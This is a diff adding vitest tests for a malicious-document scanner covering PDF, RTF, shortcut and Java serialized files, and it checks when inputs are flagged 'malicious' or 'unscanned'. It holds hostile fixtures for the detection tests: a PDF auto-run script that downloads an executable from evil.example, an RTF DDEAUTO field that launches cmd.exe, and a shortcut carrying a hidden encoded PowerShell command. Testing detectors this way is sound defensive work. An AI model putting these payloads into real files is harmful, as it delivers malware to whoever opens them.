@@ -1,0 +1,57 @@
+/** What a reader of documents does not read is said, and never counts as clean. */
+import { deflateSync } from 'node:zlib';
+import { expect, test } from 'vitest';
+import { MAX_READ } from '../../../src/supply/contract.ts';
+import { bufferInput } from '../../../src/supply/input.ts';
+import { scanInput } from '../../../src/supply/scan.ts';
+
+const verdictOf = (name: string, content: Buffer | string): string => scanInput(bufferInput(name, typeof content === 'string' ? Buffer.from(content, 'latin1') : content), name).verdict;
+
+/** A PDF of the given objects, without a table: readers look for the objects then. */
+const pdf = (...objects: readonly string[]): string => `%PDF-1.7\n${objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`;
+const stream = (dictionary: string, bytes: string): string => `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`;
+const CALL = 'app.launchURL("https://evil.example/x.exe", true);';
+const catalog = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>';
+
+test('a script that is packed in a way that is not read is no clean document', () => {
+  expect(verdictOf('a.pdf', pdf(catalog, stream('', CALL)))).toBe('malicious');
+  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /LZWDecode', '\x80\x0b\x60\x50\x22')))).toBe('unscanned');
+  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /FlateDecode', 'no zlib at all')))).toBe('unscanned');
+});
+
+test('a script under more layers than are taken off is no clean document', () => {
+  let bytes = deflateSync(Buffer.from(CALL));
+  for (let i = 0; i < 4; i++) bytes = deflateSync(bytes);
+  expect(verdictOf('a.pdf', pdf(catalog, stream(`/Filter [${'/FlateDecode '.repeat(5)}]`, bytes.toString('latin1'))))).toBe('unscanned');
+});
+
+test('objects that are packed together in a way that is not read are said', () => {
+  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', '\x80\x0b\x60')))).toBe('unscanned');
+});
+
+test('a picture in a document need not be unpacked', () => {
+  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', stream('/Type /XObject /Subtype /Image /Filter /DCTDecode', '\xff\xd8\xff')))).toBe('benign');
+});
+
+test('more files in a document than are looked into are said', () => {
+  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', ...Array.from({ length: 101 }, () => stream('/Type /EmbeddedFile', 'hello'))))).toBe('unscanned');
+});
+
+test('a field that starts a program is seen across the pieces that a long text is read in', () => {
+  const field = '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}';
+  for (const before of [0, 5, 20, field.length - 5]) expect(verdictOf('a.rtf', `{\\rtf1 ${'a'.repeat(MAX_READ - 7 - before)}${field}}`)).toBe('malicious');
+});
+
+test('no number of texts in a shortcut hides its command', () => {
+  const magic = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
+  const command = Buffer.from('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'utf16le');
+  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(56), command]))).toBe('malicious');
+  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(56), Buffer.from('word\0'.repeat(2_500)), Buffer.alloc(1), command]))).toBe('malicious');
+  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(300 * 1024), command]))).toBe('unscanned');
+});
+
+test('objects of Java beyond what is searched are said', () => {
+  const head = Buffer.from([0xac, 0xed, 0, 5]);
+  expect(verdictOf('a.ser', Buffer.concat([head, Buffer.from('sr java.lang.String')]))).toBe('benign');
+  expect(verdictOf('a.ser', Buffer.concat([head, Buffer.alloc(65 * 1024 * 1024)]))).toBe('unscanned');
+});
